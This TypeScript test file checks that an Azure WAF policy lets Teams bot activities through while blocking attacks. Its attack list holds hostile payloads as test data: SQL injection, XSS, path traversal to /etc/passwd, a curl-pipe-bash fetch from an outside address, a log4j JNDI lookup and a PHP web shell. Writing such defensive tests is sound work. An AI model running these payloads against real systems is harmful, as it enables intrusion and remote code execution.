import { type ApplicationGatewayEdgeProps } from '../../src';
import { WafMode, WafRuleSet } from '../../src/ingress/waf';
import { ACTIVITY_MEMBERS, UNJUDGED_MEMBERS } from '../../src/ingress/callers/teams-messages';
import { rulesOfSet } from '../../src/ingress/waf/waf-rule-ids';
import { ACTIVITIES, type Activity } from '../support/activities';
import { newEdge } from '../support/ingress';
import { judgeManaged, type Naming, NAMINGS, RULES } from '../support/managed-rules';
import { TENANT } from '../support/samples';
import { synthesize } from '../support/synthesize';
import { type WafRequest, WafSimulator } from '../support/waf';

const policyWith = (changes: Partial<ApplicationGatewayEdgeProps> = {}) =>
  synthesize((scope) => newEdge(scope, changes)).only('azurerm_web_application_firewall_policy').config;

const FROM_TEAMS: WafRequest = {
  source: '52.113.1.2',
  method: 'POST',
  uri: '/agents/api/projects/p/applications/a/protocols/activityprotocol?api-version=2025-05-15-preview',
  headers: { 'x-ms-tenant-id': TENANT, 'user-agent': 'Microsoft-SkypeBotApi (Microsoft-BotFramework/3.0)' },
};
const [GREETING = {}] = [ACTIVITIES.get('message: greeting')];

const byDefault = policyWith();
const blockedOf = (policy: typeof byDefault, naming?: Naming) =>
  [...ACTIVITIES]
    .filter(([, body]) => judgeManaged(policy, { ...FROM_TEAMS, body }, naming).isBlocked)
    .map(([kind]) => kind);

describe('activities of Teams', () => {
  test('are at least sixty, of every type, up to 100 KB', () => {
    expect(ACTIVITIES.size).toBeGreaterThanOrEqual(60);
    const sizes = [...ACTIVITIES.values()].map((activity) => Buffer.byteLength(JSON.stringify(activity)));
    expect(Math.max(...sizes)).toBeGreaterThan(100_000);
    expect(Math.max(...sizes)).toBeLessThan(256 * 1024);
    const members = new Set([...ACTIVITIES.values()].flatMap((activity) => Object.keys(activity)));
    expect([...members].filter((member) => !(member in ACTIVITY_MEMBERS))).toEqual([]);
    expect(Object.keys(ACTIVITY_MEMBERS).filter((member) => !members.has(member))).toEqual([]);
  });

  test('are all refused where managed rules judge them, for the URL of Teams alone', () => {
    const judging = policyWith({ judgeActivities: true });
    expect(blockedOf(judging)).toEqual([...ACTIVITIES.keys()]);
    const { matched } = judgeManaged(judging, { ...FROM_TEAMS, body: ACTIVITIES.get('typing') });
    expect(matched).toContain('931130 at argument serviceUrl');
    const withoutUrl = [...ACTIVITIES.values()].filter(
      (activity) => judgeManaged(judging, { ...FROM_TEAMS, body: { ...activity, serviceUrl: undefined } }).isBlocked,
    );
    expect(withoutUrl.length).toBeGreaterThan(60);
  });

  test.each(Object.keys(NAMINGS))('pass by default, with members named %s', (naming) => {
    expect(blockedOf(byDefault, NAMINGS[naming])).toEqual([]);
  });

  test('pass with the Core Rule Set, too', () => {
    expect(blockedOf(policyWith({ defaultRuleSet: WafRuleSet.OWASP_3_2 }))).toEqual([]);
    expect(blockedOf(policyWith({ defaultRuleSet: WafRuleSet.OWASP_3_1, leaveLogsUnscrubbed: true }))).toEqual([]);
  });

  test('pass the rules of the edge itself', () => {
    expect(WafSimulator.of(byDefault).judge(FROM_TEAMS).blockedBy).toBeUndefined();
  });

  test('every rule of the reading stands in the list of managed rules, and is set off by some activity', () => {
    const ids = rulesOfSet(WafRuleSet.DRS_2_1).map(({ ruleId }) => ruleId);
    expect(RULES.filter(({ id }) => !ids.includes(id))).toEqual([]);
    const judging = policyWith({ judgeActivities: true });
    const matched = [...ACTIVITIES.values()].flatMap((body) => judgeManaged(judging, { ...FROM_TEAMS, body }).matched);
    expect(RULES.filter(({ id }) => !matched.some((one) => one.startsWith(id))).map(({ id }) => id)).toEqual([]);
  });
});

describe('attacks outside text and addresses of activities', () => {
  const ATTACKS: readonly [string, string][] = [
    ['SQL', "' or 1=1 -- "],
    ['SQL union', "1' UNION SELECT password FROM users-- "],
    ['scripts', '<script>alert(1)</script>'],
    ['event handlers', '"><img src=x onerror=alert(1)>'],
    ['files', '../../../../etc/passwd'],
    ['files of others', 'http://203.0.113.9/shell.txt?'],
    ['commands', '; cat /etc/passwd'],
    ['shell expressions', '$(curl http://203.0.113.9/x | bash)'],
    ['log4j', '${jndi:ldap://203.0.113.9/a}'],
    ['Java', 'java.lang.Runtime.getRuntime().exec("id")'],
    ['PHP', '<?php system($_GET["c"]); ?>'],
  ];
  const some = (...kinds: readonly string[]) => ATTACKS.filter(([kind]) => kinds.includes(kind));

  test.each([
    ...some('files', 'log4j', 'Java').map((attack) => [...attack, 'x-ms-conversation-id']),
    ...some('SQL', 'scripts', 'event handlers', 'Java').map((attack) => [...attack, 'user-agent']),
  ])('%s (%s) in header %s are still refused by managed rules', (_, attack = '', header = '') => {
    const headers = { ...FROM_TEAMS.headers, [header]: attack };
    expect(judgeManaged(byDefault, { ...FROM_TEAMS, headers, body: GREETING }).isBlocked).toBe(true);
  });

  test.each(ATTACKS)('%s in a member that carries no text are still refused by managed rules', (_, attack) => {
    const members = Object.keys(ACTIVITY_MEMBERS).filter(
      (name) => !UNJUDGED_MEMBERS.some((one) => name.startsWith(one)),
    );
    for (const member of [...members, 'foo', 'Text', 'TEXT', 'SERVICEURL', 'isTargeted', 'x.text']) {
      const body: Activity = { ...GREETING, [member]: attack };
      expect([member, judgeManaged(byDefault, { ...FROM_TEAMS, body }).isBlocked]).toEqual([member, true]);
    }
  });

  test.each(some('files', 'scripts', 'Java', 'PHP'))('%s in the path are refused', (_, attack) => {
    const request = { ...FROM_TEAMS, uri: `/agents/x/${encodeURIComponent(attack)}?api-version=v1` };
    const { blockedBy } = WafSimulator.of(byDefault).judge(request);
    expect(blockedBy ?? judgeManaged(byDefault, { ...request, body: GREETING }).isBlocked).toBeTruthy();
  });

  test.each(ATTACKS)(
    '%s in the query are refused by the edge, under a name of a member or another one',
    (_, attack) => {
      const encoded = encodeURIComponent(attack);
      for (const query of [
        `${FROM_TEAMS.uri}&text=${encoded}`,
        `/agents/x?text=${encoded}`,
        `/agents/x?value.a=${encoded}`,
        `/agents/x?te%78t=${encoded}`,
        `/agents/x?api-version=${encoded}`,
        `/agents/x?api-version=v1;text=${encoded}`,
        `/agents/x?${encoded}`,
      ]) {
        const { blockedBy } = WafSimulator.of(byDefault).judge({ ...FROM_TEAMS, uri: query });
        expect([query, blockedBy]).toEqual([query, expect.stringMatching(/^Block(OtherQueries|PathTricks)$/)]);
      }
    },
  );
});

describe('a trial', () => {
  const trial = policyWith({ wafMode: WafMode.TRIAL, judgeActivities: true });

  test('logs what managed rules would refuse, and refuses none of it', () => {
    expect(trial.policy_settings).toMatchObject({ mode: 'Prevention' });
    for (const [kind, body] of ACTIVITIES) {
      const { isBlocked, matched, logged } = judgeManaged(trial, { ...FROM_TEAMS, body });
      expect([kind, isBlocked, matched, logged.length > 0]).toEqual([kind, false, [], true]);
    }
  });

  test.each<[string, Partial<WafRequest>, string]>([
    ['another source', { source: '203.0.113.9' }, 'BlockOtherSources'],
    ['no tenant', { headers: {} }, 'BlockMissingTenant'],
    ['another tenant', { headers: { 'x-ms-tenant-id': 'x' } }, 'BlockOtherTenants'],
    ['another method', { method: 'GET' }, 'BlockOtherMethods'],
    ['another path', { uri: '/x' }, 'BlockOtherPaths'],
    ['another query', { uri: '/agents/x?text=1' }, 'BlockOtherQueries'],
  ])('refuses %s', (_, change, rule) => {
    expect(WafSimulator.of(trial).judge({ ...FROM_TEAMS, ...change }).blockedBy).toBe(rule);
  });
});
